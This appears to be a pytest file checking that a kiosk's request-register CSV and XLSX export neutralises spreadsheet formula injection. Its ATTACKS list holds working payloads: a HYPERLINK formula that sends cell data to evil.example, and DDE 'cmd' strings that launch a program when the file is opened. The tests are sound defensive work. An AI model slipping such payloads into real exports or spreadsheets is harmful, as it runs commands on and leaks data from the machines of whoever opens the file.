"""Formula injection through the request register export: a request named =HYPERLINK(...) must
open in Excel/WPS as the text it is, never as a live formula."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile

import pytest
from openpyxl import load_workbook

from kiosk.config import Config
from kiosk.reports.register_export import export_requests, neutralise, to_csv, write_xlsx
from kiosk.requests import service
from kiosk.store import township_repo
from kiosk.trust.staff import Actor
from tests.conftest import GONGKAI
from tests.requests.conftest import person, resident_id

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


@pytest.fixture
def hostile(db, clock):
    township_repo.save_township(db, {"code": "362430101", "name": "青禾镇"})
    clerk = Actor("clerk1", "clerk", "王小明")
    for n, text in enumerate(ATTACKS):
        service.create_request(db, clock, Config(township="362430101", kiosk_id="K01"), clerk, person(
            name=text, id_number=resident_id(f"3624301956030412{n}"), description=f"{text} 的材料",
            address=text, doc_ref=text))
    return db


@pytest.mark.parametrize("value", [*ATTACKS, "\t=1+1", "\r=1+1", "=", "+", "-", "@"])
def test_every_dangerous_first_character_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["王秀英", "2026-11-22", "东岭村3组", "", "1+1=2", "a=b"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


def test_csv_cells_cannot_start_a_formula(hostile):
    count, data = export_requests(hostile, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert count == len(ATTACKS) and len(rows) == len(ATTACKS) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = {row[6] for row in rows[1:]}
    assert names == {"'" + a for a in ATTACKS}, "the text itself survives, behind the apostrophe"


def test_csv_neutralises_tab_and_cr_too():
    data = to_csv(["h"], [["\t=1+1"], ["\r=cmd"], [7]]).decode("utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(data))][1:]
    assert cells == ["'\t=1+1", "'\r=cmd", "7"]


def test_xlsx_cells_are_strings_never_formulas(hostile, tmp_path):
    out = tmp_path / "r.xlsx"
    export_requests(hostile, "xlsx", out)
    sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(out).active
    names = [sheet.cell(row=r, column=7) for r in range(2, len(ATTACKS) + 2)]
    assert {c.value for c in names} == set(ATTACKS)
    assert {c.data_type for c in names} == {"s"}


def test_xlsx_flags_characters_xml_cannot_hold_instead_of_dropping_them(tmp_path):
    write_xlsx(["h"], [["a\x00b\x1bc"]], tmp_path / "x.xlsx")
    assert load_workbook(tmp_path / "x.xlsx").active["A2"].value == "a〔控制字符 U+0000〕b〔控制字符 U+001B〕c"


def test_the_export_command_writes_neutralised_files(hostile, tmp_path):
    hostile.close()
    db_path = tmp_path / "kiosk.db"
    out = subprocess.run([*GONGKAI, "export", "requests", "--db", str(db_path)], capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr.decode()
    text = out.stdout.decode("utf-8-sig")
    assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text
    assert "'=HYPERLINK" in text
